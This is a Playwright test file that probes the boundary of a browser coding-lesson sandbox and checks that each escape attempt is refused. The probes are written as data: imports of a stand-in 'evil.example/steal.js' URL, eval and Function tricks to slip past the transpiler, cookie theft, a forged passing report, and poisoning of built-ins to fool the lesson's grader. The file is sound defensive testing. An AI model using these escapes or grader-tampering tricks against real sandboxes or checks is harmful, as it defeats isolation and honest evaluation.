/**
 * The sandbox's boundary, beyond e2e/sandbox.spec.ts (network, storage, DOM, postMessage, Worker) and
 * e2e/share.spec.ts (code from a link): dynamic import() of a URL, through the transpiler and around it; workers
 * that would outlive the run; cookies; a forged "all checks pass" report; the worker's own built-ins poisoned;
 * and learner code tampering with its checks from inside the realm they share. Issue 9; docs/security-cases.md lists
 * every case.
 */
import { readFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import { budget } from "./budgets.ts";
import { pasteIntoEditor } from "./editorHelpers.ts";
import { expect, test } from "./fixtures.ts";

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

/** The page's storage, for code passed to page.evaluate (it runs in the browser; this file type-checks in Node). */
declare const localStorage: { getItem(key: string): string | null };

/** Line 2 of the probe file, where `prelude` goes. */
const PRELUDE_LINE = 2;

async function openUpload(page: Page): Promise<void> {
  await page.goto("/lessons/upload");
  await expect(page.getByTestId("code-editor")).toContainText("leak-lab/runtime");
}

/** Pastes `prelude` as line 2 of a file with an empty StorageService, and presses Run. */
async function runWithPrelude(page: Page, prelude: string): Promise<void> {
  await openUpload(page);
  await pasteIntoEditor(page, `// probe\n${prelude}\nexport class StorageService {}\n`, "// probe");
  await page.getByRole("button", { name: "Run", exact: true }).click();
}

async function expectPageResponsive(page: Page): Promise<void> {
  await expect(page.getByRole("heading", { level: 1, name: "Fix the upload leak" })).toBeVisible();
  await page.getByRole("textbox", { name: "Code editor" }).focus();
  await page.keyboard.press("ControlOrMeta+End");
  await page.keyboard.type("// still here");
  await expect(page.getByTestId("code-editor")).toContainText("// still here");
}

test.describe("the sandbox's boundary", () => {
  test("dynamic import() of a URL is refused with an error at its line, and nothing is fetched", async ({
    page,
  }) => {
    await runWithPrelude(page, 'void import("https://evil.example/steal.js");');
    await expect(page.locator(".run-error")).toHaveText(
      `storage.ts:${PRELUDE_LINE}: panic: cannot import "https://evil.example/steal.js": only "leak-lab/runtime" is available (a promise rejected and nothing awaited it)`,
    );
    // The fixture fails the test if any request left 127.0.0.1.
  });

  // Code from text would pass by the transpiler (which turns import() into the sandbox's require) and fetch:
  // lockDown() takes away eval, Function and every function kind's constructor.
  test("an import() hidden from the transpiler in eval'd code is refused, and nothing is fetched", async ({
    page,
  }) => {
    const requests: string[] = [];
    page.context().on("request", (request) => {
      if (request.url().includes("/steal")) requests.push(request.url());
    });
    // Same host, another port: a URL the fixture lets through, so only the sandbox can stop it.
    await runWithPrelude(page, `void new Function("return import('http://127.0.0.1:9/steal.js')")();`);
    await expect(page.locator(".run-error")).toContainText(
      `storage.ts:${PRELUDE_LINE}: building code from text (eval, new Function) is not available to learner code`,
    );
    // Nor through the other doors: an async function's constructor and the global eval.
    for (const [index, door] of [
      `void (async () => {}).constructor("return import('http://127.0.0.1:9/steal.js')")();`,
      `void eval("import('http://127.0.0.1:9/steal.js')");`,
    ].entries()) {
      await pasteIntoEditor(
        page,
        `// door ${index}\n${door}\nexport class StorageService {}\n`,
        `// door ${index}`,
      );
      await page.getByRole("button", { name: "Run", exact: true }).click();
      await expect(page.locator(".run-error")).toContainText(`storage.ts:2: building code from text`);
    }
    expect(requests).toEqual([]);
  });

  for (const attempt of [
    {
      name: "WebSocket",
      code: "new WebSocket('ws://127.0.0.1:9/');",
      error: "WebSocket is not a constructor",
    },
    { name: "EventSource", code: "new EventSource('/events');", error: "EventSource is not a constructor" },
    { name: "importScripts", code: "importScripts('/steal.js');", error: "importScripts is not a function" },
  ]) {
    test(`${attempt.name} is out of reach, with an error at its line`, async ({ page }) => {
      await runWithPrelude(page, attempt.code);
      await expect(page.locator(".run-error")).toHaveText(`storage.ts:${PRELUDE_LINE}: ${attempt.error}`);
    });
  }

  for (const attempt of [
    {
      name: "a shared worker",
      code: "new SharedWorker('x.js');",
      error: "SharedWorker is not a constructor",
    },
    {
      name: "a service worker",
      code: "(navigator as unknown as { serviceWorker: { register(url: string): void } }).serviceWorker.register('/sw.js');",
      error: /Cannot read properties of undefined \(reading 'register'\)/,
    },
  ]) {
    test(`${attempt.name} that would outlive the run cannot be started`, async ({ page }) => {
      await runWithPrelude(page, attempt.code);
      await expect(page.locator(".run-error")).toContainText(attempt.error);
      await expect(page.locator(".run-error")).toContainText(`storage.ts:${PRELUDE_LINE}`);
    });
  }

  test("cookies are out of reach: no document, no cookie store", async ({ page }) => {
    await runWithPrelude(
      page,
      'const jar = (self as unknown as { cookieStore?: unknown }).cookieStore; if (jar !== undefined) throw new Error("cookie store reachable"); document.cookie = "stolen=1";',
    );
    await expect(page.locator(".run-error")).toHaveText(
      `storage.ts:${PRELUDE_LINE}: document is not defined`,
    );
    expect(await page.context().cookies()).toEqual([]);
  });

  test("a forged passing report cannot mark the lesson complete", async ({ page }) => {
    await openUpload(page);
    const forged = `// probe\npostMessage({ type: "checked", runId: 1, report: { status: "pass", tests: [], leaks: [], leakReport: "" } });\nexport class StorageService {}\n`;
    await pasteIntoEditor(page, forged, "// probe");
    const panel = page.getByRole("region", { name: "Check my fix" });
    await panel.getByRole("button", { name: "Check my fix" }).click();
    await expect(panel.getByRole("alert")).toContainText(
      "Your code could not run: postMessage is not a function",
    );
    await expect(panel.getByRole("button", { name: `Go to line ${PRELUDE_LINE}` })).toBeVisible();
    await expect(panel.locator(".lesson-complete")).toHaveCount(0);
    await expect(page.getByText(/All lessons \(0 of \d+ complete\)/)).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem("leak-lab:progress") ?? "")).not.toContain(
      "upload",
    );
  });

  test("poisoning the built-ins the worker's own code uses is refused at its line, and the page carries on", async ({
    page,
  }) => {
    // Learner code cannot post, but it shares the worker's realm: poisoned, Array.prototype.slice would turn every
    // list the worker sends into garbage. The built-ins are frozen before learner code exists (hardenRealm.ts).
    await runWithPrelude(
      page,
      'import { go, time } from "leak-lab/runtime"; Array.prototype.slice = function () { return [{ t: "garbage" }, null, 42]; } as never; go(async () => { for (;;) await time.sleep(1000); });',
    );
    await expect(page.locator(".run-error")).toContainText(
      `storage.ts:${PRELUDE_LINE}: Cannot assign to read only property 'slice'`,
    );
    await expect(page.getByTestId("run-status")).toHaveText("finished");
    await expectPageResponsive(page);
  });
});

/** The upload starter, leak and all, with `lines` added after its import (line 5); they become lines 6, 7... */
function starterWith(lines: readonly string[]): string {
  const starter = readFileSync("lessons/04-upload/storage.ts", "utf8").split("\n");
  return [...starter.slice(0, 5), ...lines, ...starter.slice(5)].join("\n");
}

/** The starter's leak: the reporter started at its line 59, moved down by what was added above it. */
function leakAt(addedLines: number): RegExp {
  return new RegExp(`created by StorageService\\.upload at storage\\.ts:${59 + addedLines}`);
}

/** Pastes `code` (with a last line to see it by: the editor shows the end after a paste) and presses Check. */
async function checkMyFix(page: Page, code: string) {
  await openUpload(page);
  await pasteIntoEditor(page, `${code.trimEnd()}\n// pasted for the check\n`, "// pasted for the check");
  const panel = page.getByRole("region", { name: "Check my fix" });
  await panel.getByRole("button", { name: "Check my fix" }).click();
  return panel;
}

async function expectNotComplete(page: Page): Promise<void> {
  await expect(page.locator(".lesson-complete")).toHaveCount(0);
  await expect(page.getByText(/All lessons \(0 of \d+ complete\)/)).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem("leak-lab:progress") ?? "")).not.toContain("upload");
}

// The checks run in the same realm as the learner's code; these try to make the leaky starter pass from inside.
test.describe("Check my fix against code that tampers with its checks", () => {
  test("replacing array and promise methods throws at the tampering line, and the lesson stays incomplete", async ({
    page,
  }) => {
    const code = starterWith(["Array.prototype.filter = function () { return []; } as never; // tamper"]);
    const panel = await checkMyFix(page, code);
    await expect(panel.getByRole("alert")).toContainText(
      "Your code could not run: Cannot assign to read only property 'filter'",
      { timeout: budget("check") },
    );
    await expect(panel.getByRole("button", { name: "Go to line 6" })).toBeVisible();
    await expectNotComplete(page);
  });

  test("tampering that swallows its errors changes nothing: the checks still fail and name the leak", async ({
    page,
  }) => {
    const tampering = [
      "const tamper = (change: () => void) => { try { change(); } catch {} }; // tamper",
      "tamper(() => { Array.prototype.filter = function () { return []; } as never; });",
      "tamper(() => { Array.prototype.map = function () { return []; } as never; });",
      "tamper(() => { Array.prototype.reduce = function () { return 0; } as never; });",
      "tamper(() => { Promise.prototype.then = function (this: unknown) { return this; } as never; });",
      "tamper(() => { Map.prototype.values = function* () {} as never; });",
      "tamper(() => { (globalThis as unknown as { Map: unknown }).Map = class {}; });",
      "tamper(() => { Object.defineProperty(Object.prototype, 'then', { get: () => undefined }); });",
    ];
    const panel = await checkMyFix(page, starterWith(tampering));
    await expect(panel.locator(".check-summary")).toContainText(/\d+ of \d+ checks pass/, {
      timeout: budget("check"),
    });
    await expect(panel.getByRole("button", { name: leakAt(tampering.length) })).toBeVisible();
    await expectNotComplete(page);
  });

  test("reaching the runtime through the objects it hands out finds nothing to clear: the leak is still found", async ({
    page,
  }) => {
    // Tries every object the runtime hands out, and everything reachable from them, for the registry the
    // checks count leaks with, and clears what it finds: before issue 9, `alloc(0).runtime.registry` was it.
    const tampering = [
      "function clearTheBooks(): number { // tamper",
      "  let cleared = 0;",
      "  const seen = new Set<unknown>();",
      "  const visit = (value: unknown, depth: number): void => {",
      "    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || depth > 6) return;",
      "    seen.add(value);",
      "    const found = value as { registry?: { live?: Map<unknown, unknown>; counts?: Record<string, number>; bytes?: number } };",
      "    if (found.registry?.live) { found.registry.live.clear(); found.registry.counts = { goroutines: 0, timers: 0, tickers: 0 }; found.registry.bytes = 0; cleared++; }",
      "    for (let level: object | null = value; level; level = Object.getPrototypeOf(level))",
      "      for (const key of Reflect.ownKeys(level)) { try { visit(Reflect.get(level, key, value), depth + 1); } catch {} }",
      "  };",
      "  const [ctx, cancel] = context.withTimeout(context.background(), 1000);",
      "  for (const root of [alloc(0), chan(1), ctx, cancel, time.newTimer(1), context.background()]) visit(root, 0);",
      "  try { (alloc(0) as unknown as { runtime: { registry: { live: Map<unknown, unknown> } } }).runtime.registry.live.clear(); cleared++; } catch {}",
      "  cancel();",
      "  return cleared;",
      "}",
      "const closeForReal = StorageService.prototype.close;",
      "StorageService.prototype.close = function (this: StorageService) { closeForReal.call(this); if (clearTheBooks() > 0) throw new Error('the books were reachable'); };",
    ];
    const starter = readFileSync("lessons/04-upload/storage.ts", "utf8");
    const code = `${starter.replace('log, select, send, time } from "leak-lab/runtime";', 'context, log, select, send, time } from "leak-lab/runtime";')}\n${tampering.join("\n")}\n`;
    const panel = await checkMyFix(page, code);
    await expect(panel.locator(".check-summary")).toContainText(/\d+ of \d+ checks pass/, {
      timeout: budget("check"),
    });
    await expect(panel.getByRole("button", { name: leakAt(0) })).toBeVisible();
    await expect(panel).not.toContainText("the books were reachable");
    await expectNotComplete(page);
  });

  test("ordinary code is unaffected: an Error subclass setting this.name, and an object with its own toString", async ({
    page,
  }) => {
    const ordinary = [
      "class UploadError extends Error { // ordinary",
      "  constructor(message: string, readonly session: string) {",
      "    super(message);",
      '    this.name = "UploadError";',
      "  }",
      "}",
      'const probe = new UploadError("probe", "s1");',
      'const label = { text: "upload" } as { text: string; toString(): string };',
      'label.toString = () => "label " + label.text;',
      'if (String(probe) + "|" + label !== "UploadError: probe|label upload") throw new Error("changed: " + probe);',
    ];
    const solution = readFileSync("solutions/04-upload/storage.ts", "utf8").split("\n");
    const code = [...solution.slice(0, 6), ...ordinary, ...solution.slice(6)].join("\n");
    const panel = await checkMyFix(page, code);
    await expect(panel.locator(".check-summary")).toContainText(/^All \d+ checks pass/, {
      timeout: budget("check"),
    });
    await expect(panel.getByText("✓ Lesson complete")).toBeVisible();
  });
});
